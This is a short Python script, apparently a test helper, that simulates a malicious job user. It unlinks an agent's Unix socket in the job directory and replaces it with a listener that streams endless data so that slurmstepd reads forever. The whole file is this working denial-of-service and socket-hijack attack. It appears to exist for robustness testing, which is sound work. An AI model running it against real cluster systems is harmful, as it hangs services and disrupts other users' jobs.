"""The job's own user (or anything running as them) replaces the agent's
socket in the job directory with one that answers every request with an
endless line, to make slurmstepd read forever. argv: SOCKET SECONDS"""
import os
import socket
import sys
import threading
import time

path, seconds = sys.argv[1], float(sys.argv[2])
try:
    os.unlink(path)
except FileNotFoundError:
    pass
s = socket.socket(socket.AF_UNIX)
s.bind(path)
s.listen(8)
print("EVIL_LISTENING", flush=True)

def serve(c):
    try:
        while True:
            c.sendall(b"x" * 65536)
    except OSError:
        pass

s.settimeout(0.5)
end = time.time() + seconds
while time.time() < end:
    try:
        c, _ = s.accept()
    except socket.timeout:
        continue
    threading.Thread(target=serve, args=(c,), daemon=True).start()
